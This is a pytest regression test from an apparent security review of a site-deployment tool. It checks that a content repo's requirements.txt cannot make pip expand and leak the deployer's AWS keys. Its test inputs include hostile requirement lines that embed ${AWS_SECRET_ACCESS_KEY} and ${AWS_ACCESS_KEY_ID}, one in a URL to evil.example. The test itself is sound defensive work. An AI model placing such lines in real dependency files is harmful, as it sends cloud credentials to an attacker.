"""The independent review of the trust boundary (issue 21): attacks a content repo can make.

Each test is one attempt by a commit that controls everything in its repo (files, names,
mkdocs.yml, requirements.txt, committed packages, branch names). An attempt that held is kept
as a regression test; an attempt that succeeded was fixed and its test shows the fix.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from sitedeploy import commands
from sitedeploy import config as config_mod
from sitedeploy.errors import BuildError
from tests.fixtures.canaries import CLI_CANARIES
from tests.fixtures.git import ContentRepo, write_config

DOCS = '[[sites]]\nname = "docs"\npath = "sites/docs"\n'


def _config(tmp_path: Path, repo: ContentRepo, sites: str = DOCS, extra: str = "") -> config_mod.Config:
    ops = tmp_path / "ops"
    ops.mkdir(exist_ok=True)
    return config_mod.load(write_config(ops, repo.path, sites=sites, extra=extra))


@pytest.mark.parametrize(
    "line",
    [
        "canary-${AWS_SECRET_ACCESS_KEY}==1.0",
        "evil @ https://evil.example/${AWS_ACCESS_KEY_ID}/evil-1.0-py3-none-any.whl",
        "mkdocs==1.6.1 \\\n  --hash=sha256:${AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_requirements_cannot_expand_the_deployers_environment(
    line: str, tmp_path: Path, content_repo: ContentRepo
) -> None:
    """pip expands ``${VAR}`` in a requirements file; the host download runs with the
    operator's environment (its keys), so a line naming one would send it to any https host
    or print it in the error that reaches the chat and the pull request's status."""
    content_repo.write("sites/docs/requirements.txt", f"mkdocs==1.6.1\n{line}\n")
    content_repo.commit("a requirement line naming the deployer's variables")
    with pytest.raises(BuildError) as caught:
        commands.build(_config(tmp_path, content_repo))
    said = f"{caught.value} {getattr(caught.value, 'log_tail', '')}"
    assert not [name for name, value in CLI_CANARIES.items() if value in said]
    assert "requirements.txt line 2" in str(caught.value)
